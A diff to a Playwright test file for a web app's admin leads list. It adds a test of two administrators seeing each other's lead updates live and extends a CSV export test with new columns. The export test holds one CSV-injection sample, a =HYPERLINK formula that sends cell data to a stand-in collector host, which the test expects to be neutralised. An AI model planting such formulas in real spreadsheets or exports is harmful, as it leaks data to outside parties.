@@ -3,6 +3,7 @@ import { readFile } from 'node:fs/promises'
 import type { APIRequestContext, Page } from '@playwright/test'
 
 import { expect, type Giftwell, test } from './support/giftwell.ts'
+import { anotherAdministrator } from './support/product-steps.ts'
 import { addToInquiry, fillInquiry } from './support/steps.ts'
 
 test.use({ signedIn: true })
@@ -54,7 +55,6 @@ test('a lead that is sent while the list is open appears in it without a reload'
   await page.clock.install()
   await openLeads(page)
   await expect(rows(page).filter({ hasText: 'Earlier Buyer' }).first()).toBeVisible()
-  await expect(page.getByText('New', { exact: true })).toBeHidden()
   await page.evaluate(() => Object.assign(window, { isSamePage: true }))
 
   const anonymous = { cookies: [], origins: [] }
@@ -220,11 +220,12 @@ test('what is listed is exported for spreadsheets, whole and without formulas', 
   const date: unknown = expect.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/)
   const reference: unknown = expect.stringMatching(/^GW-[\dA-F]{8}$/)
   const none = ['', '', '', '', '']
+  const unhandled = ['New', '', '']
   expect(parse(bytes.subarray(3).toString('utf8'))).toEqual([
-    'Name,Company,Email,Phone,Products,Message,Date,Quantities and notes,Needed by,Budget per gift,Delivery city,Branding,Reference'.split(
+    'Name,Company,Email,Phone,Products,Message,Date,Quantities and notes,Needed by,Budget per gift,Delivery city,Branding,Reference,State,Assigned to,Notes'.split(
       ',',
     ),
-    ['Plain', word, email, '+91 98765 43210', '', '', date, ...none, reference],
+    ['Plain', word, email, '+91 98765 43210', '', '', date, ...none, reference, ...unhandled],
     [
       `'=HYPERLINK("https://collector.example/?"&B1,"Prices")`,
       `Ünïque, "${word}" & Søns 🎁`,
@@ -235,8 +236,47 @@ test('what is listed is exported for spreadsheets, whole and without formulas', 
       date,
       ...none,
       reference,
+      ...unhandled,
     ],
   ])
+})
+
+test('what one administrator does with a lead, another one who has it open sees, and the number of unanswered ones follows', async ({
+  page,
+  browser,
+  giftwell,
+  request,
+}) => {
+  const word = newWord(giftwell)
+  await openLeads(page, `/admin/leads?search=${word}`)
+  const mine = page.getByRole('dialog', { name: word })
+  const other = await anotherAdministrator(browser, giftwell, `/admin/leads?search=${word}`)
+  const theirs = other.getByRole('dialog', { name: word })
+  await send(request, { name: word, company: 'Test Company', email: giftwell.newAddress('shared') })
+  for (const desk of [page, other]) await rows(desk).getByRole('button', { name: word }).click()
+  const link = other.getByRole('link', { name: 'Leads', exact: true, includeHidden: true })
+  const waiting = async () =>
+    Number((await link.getAttribute('aria-describedby')) === null ? 0 : /\d+/.exec(await other.title())?.[0])
+  await expect.poll(waiting).toBeGreaterThan(0)
+  const before = await waiting()
+
+  await mine.getByRole('combobox', { name: 'State' }).selectOption('Quoted')
+  await expect(theirs.getByRole('combobox', { name: 'State' })).toHaveValue('quoted')
+  await expect.poll(waiting).toBe(before - 1)
+  await theirs.getByRole('textbox', { name: 'Note' }).fill('Samples on Friday')
+  await theirs.getByRole('button', { name: 'Add note' }).click()
+  await expect(mine.getByText('Samples on Friday')).toBeVisible()
+  await expect(mine.getByRole('combobox', { name: 'Assigned to' })).toHaveValue('')
+  await theirs.getByRole('combobox', { name: 'Assigned to' }).selectOption({ index: 1 })
+  await expect(mine.getByRole('combobox', { name: 'Assigned to' })).not.toHaveValue('')
+  await expect(mine.getByRole('listitem').filter({ hasText: 'assigned it to' })).toBeVisible()
+  await page.keyboard.press('Escape')
+  await page.getByRole('combobox', { name: 'Show' }).selectOption('State: Quoted')
+  await expect(page).toHaveURL(/state=quoted/)
+  await expect(rows(page).filter({ hasText: word })).toContainText('Quoted')
+  await page.getByRole('combobox', { name: 'Show' }).selectOption('Unanswered')
+  await expect(page.getByText('No leads match your search and dates.')).toBeVisible()
+  await other.context().close()
 })
 
 test('on a phone, a lead is read without scrolling sideways', async ({ page, giftwell, request }) => {
